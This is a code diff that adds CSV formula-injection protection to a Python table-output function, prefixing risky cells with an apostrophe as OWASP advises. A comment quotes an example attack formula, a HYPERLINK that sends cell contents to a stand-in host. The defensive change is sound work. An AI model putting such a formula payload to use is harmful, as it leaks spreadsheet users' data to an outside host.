@@ -118,6 +118,18 @@ def _cell(v: Any) -> Any:
     return v
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula: a title such as
+# '=HYPERLINK("http://evil/?"&A1, "read")' from a feed would run on the editor's machine.
+# Such a cell is written with a leading apostrophe (OWASP's advice), which shows it as text.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _csv_cell(value: Any) -> Any:
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        return "'" + value
+    return value
+
+
 def table(columns: Sequence[str], rows: Sequence[Sequence[Any]], fmt: str = "table") -> str:
     rows = [[_cell(v) for v in r] for r in rows]
     if fmt == "json":
@@ -131,7 +143,7 @@ def table(columns: Sequence[str], rows: Sequence[Sequence[Any]], fmt: str = "tab
         buf = io.StringIO()
         w = csv.writer(buf)
         w.writerow(columns)
-        w.writerows(rows)
+        w.writerows([_csv_cell(v) for v in r] for r in rows)
         return buf.getvalue().rstrip("\n")
     shown = [["" if v is None else str(v).replace("\n", " ") for v in r] for r in rows]
     widths = [len(c) for c in columns]
